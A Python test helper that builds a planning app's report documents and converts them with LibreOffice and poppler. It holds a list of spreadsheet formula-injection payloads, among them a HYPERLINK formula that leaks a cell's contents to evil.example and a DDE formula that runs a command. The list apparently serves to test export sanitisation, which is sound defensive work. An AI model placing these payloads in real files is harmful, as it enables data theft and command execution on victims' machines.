"""The paper of report_case as bytes, and LibreOffice to look at them with."""

import os
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

from flask import Flask
from flask_babel import Babel

from planner.charts.png import to_png, with_colours
from planner.domain.basis import Basis
from planner.files import handlingsdel, saksframlegg, saksframlegg_pdf
from planner.services.report_pictures import pictures
from planner.wording.paper import Paper
from planner.wording.report import Kept, paper
from tests.report_case import BASIS, make_report

KEPT_AT = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)

# What people type into cells to make another's spreadsheet run it, or to break a file.
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"klikk")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/x",
    "mailto:a@evil.example",
    "{=1+1}",
    "internal:Ark2!A1",
)


def make(basis: Basis = BASIS, language: str = "nb") -> Paper:
    app = Flask("paper")
    Babel(app, default_locale=language)
    with app.test_request_context():
        tables = make_report(basis)
        return paper(tables, Kept(1, "Førsteutkast", KEPT_AT), pictures(tables))


def word(made: Paper) -> bytes:
    return saksframlegg.write(made, {picture.svg: to_png(picture.svg) for picture in made.pictures}, KEPT_AT)


def pdf(made: Paper) -> bytes:
    return saksframlegg_pdf.write(made, {one.svg: with_colours(one.svg) for one in made.pictures}, KEPT_AT)


def book(made: Paper) -> bytes:
    return handlingsdel.write(made, KEPT_AT)


def as_pdf(content: bytes, name: str, folder: Path) -> Path:
    """The file printed by LibreOffice."""
    return converted(content, name, "pdf", folder)


def converted(content: bytes, name: str, ending: str, folder: Path) -> Path:
    """The file as LibreOffice makes it another, with a profile of its own so that tests never share one."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    assert office, (
        "LibreOffice is needed for this test: apt-get install libreoffice-writer libreoffice-calc poppler-utils"
    )
    file = folder / name
    file.write_bytes(content)
    made = folder / "made"
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [office, profile, "--headless", "--convert-to", ending, "--outdir", str(made), str(file)]
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=180, check=False, env={**os.environ, "HOME": str(folder)}
    )
    found = made / file.with_suffix(f".{ending}").name
    assert found.exists(), f"LibreOffice could not open {name}: {done.stderr}"
    return found


def read_pdf(pdf: Path, *options: str) -> str:
    """Its text as poppler reads it."""
    return subprocess.run(["pdftotext", *options, str(pdf), "-"], capture_output=True, text=True, check=True).stdout
